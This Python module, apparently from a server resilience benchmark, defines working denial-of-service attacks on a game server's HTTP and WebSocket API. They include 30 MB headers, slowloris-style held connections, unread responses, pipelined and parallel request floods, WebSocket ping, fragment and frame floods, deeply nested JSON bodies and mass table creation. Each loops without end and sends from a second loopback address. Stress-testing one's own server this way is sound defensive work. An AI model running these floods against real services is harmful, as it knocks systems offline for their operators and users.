"""The attacks themselves. Each continues until its process is ended; a refusal does not discourage it."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import json
import socket
import time
from collections.abc import Callable
from urllib.parse import urlsplit

import httpx

from bench.attackers_at_tables import AT_TABLES
from bench.attackers_fetching import FETCHING

FROM = "127.0.0.2"  # another address than the player's
MEGABYTE = 1 << 20
PAGE = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"


def _connect(address: str) -> socket.socket:
    where = urlsplit(address)
    assert where.hostname is not None
    port = where.port or 80
    local = where.hostname.startswith("127.")
    return socket.create_connection((where.hostname, port), 10, (FROM, 0) if local else None)


def _again_and_again(attempt: Callable[[], None]) -> None:
    while True:
        with contextlib.suppress(OSError, httpx.HTTPError):
            attempt()
        time.sleep(0.001)


def endless_header(address: str) -> None:
    """One header of 30 MB, then the next."""

    def attempt() -> None:
        with _connect(address) as line:
            line.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
            for _ in range(30):
                line.sendall(b"a" * MEGABYTE)

    _again_and_again(attempt)


def unfinished(address: str) -> None:
    """As many connections as one gets, none of which ever ends what it begins."""
    held: list[socket.socket] = []
    starts = (
        b"GET / HTTP/1.1\r\nX:",
        b"POST /api/me HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n{",
        b"",
    )

    def attempt() -> None:
        line = _connect(address)
        line.sendall(starts[len(held) % len(starts)])
        held.append(line)
        if len(held) > 900:
            held.pop(0).close()

    _again_and_again(attempt)


def no_one_reads(address: str) -> None:
    """Asks for much, and reads nothing of it."""
    held: list[socket.socket] = []
    words = b"GET /api/words/en HTTP/1.1\r\nHost: localhost\r\n\r\n" * 10

    def attempt() -> None:
        line = _connect(address)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        line.sendall(words)
        held.append(line)
        if len(held) > 400:
            held.pop(0).close()

    _again_and_again(attempt)


def pipelined(address: str) -> None:
    """Thousands of requests without waiting for an answer."""

    def attempt() -> None:
        with _connect(address) as line:
            for _ in range(20):
                line.sendall(PAGE * 5000)

    _again_and_again(attempt)


def requests(address: str) -> None:
    """The lobby, as fast as it is answered, over many connections."""

    async def ask() -> None:
        transport = httpx.AsyncHTTPTransport(local_address=FROM if "127.0.0.1" in address else None)
        async with httpx.AsyncClient(base_url=address, transport=transport, timeout=10) as http:
            while True:
                with contextlib.suppress(httpx.HTTPError):
                    await http.get("/api/tables")

    async def all_of_them() -> None:
        await asyncio.gather(*(ask() for _ in range(20)))

    asyncio.run(all_of_them())


@functools.cache
def _at_a_table(address: str) -> tuple[str, str]:
    """Someone and a table of theirs, made once: newcomers and new tables have limits of their own."""
    with httpx.Client(base_url=address, transport=httpx.HTTPTransport(local_address=FROM)) as http:
        me = http.post("/api/me", json={"name": "Eve", "program": True}).json()
        bearer = f"Bearer {me['token']}"
        plan = {"game": "qin", "seats": [{"kind": "me"}, {"kind": "me"}]}
        return bearer, http.post("/api/tables", json=plan, headers={"Authorization": bearer}).json()["id"]


def _open_socket(address: str) -> socket.socket:
    """A socket at a table of one's own."""
    bearer, table = _at_a_table(address)
    line = _connect(address)
    line.sendall(
        f"GET /api/tables/{table}/socket HTTP/1.1\r\nHost: localhost\r\nAuthorization: {bearer}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
    )
    return line


def _flood(address: str, frame: bytes) -> None:
    def attempt() -> None:
        with _open_socket(address) as line:
            while True:
                line.sendall(frame * 20_000)

    _again_and_again(attempt)


def pings(address: str) -> None:
    """Empty pings without end."""
    _flood(address, b"\x89\x80abcd")


def fragments(address: str) -> None:
    """A message in empty pieces that never ends."""
    _flood(address, b"\x00\x80abcd")


def frames(address: str) -> None:
    """Messages of one letter."""
    _flood(address, b"\x81\x81\x00\x00\x00\x00x")


def deep_json(address: str) -> None:
    """Lists in lists in lists."""
    body = b'{"record":' + b"[" * 30_000

    def attempt() -> None:
        with httpx.Client(base_url=address, transport=httpx.HTTPTransport(local_address=FROM)) as http:
            for _ in range(100):
                http.post("/api/study/replay", content=body, headers={"Content-Type": "application/json"})

    _again_and_again(attempt)


def listed(address: str) -> None:
    """Tables in the lobby, by one guest after the other."""

    def attempt() -> None:
        with httpx.Client(base_url=address, transport=httpx.HTTPTransport(local_address=FROM)) as http:
            http.post("/api/me", json={"name": "Eve"})
            plan = {"game": "qin", "seats": [{"kind": "me"}, {"kind": "open"}], "listed": True}
            for _ in range(10):
                http.post("/api/tables", content=json.dumps(plan))

    _again_and_again(attempt)


ATTACKS: dict[str, Callable[[str], None]] = {
    "header": endless_header,
    "unfinished": unfinished,
    "unread": no_one_reads,
    "pipelined": pipelined,
    "requests": requests,
    "ping": pings,
    "fragments": fragments,
    "frames": frames,
    "deep-json": deep_json,
    "listed": listed,
    **AT_TABLES,
    **FETCHING,
}
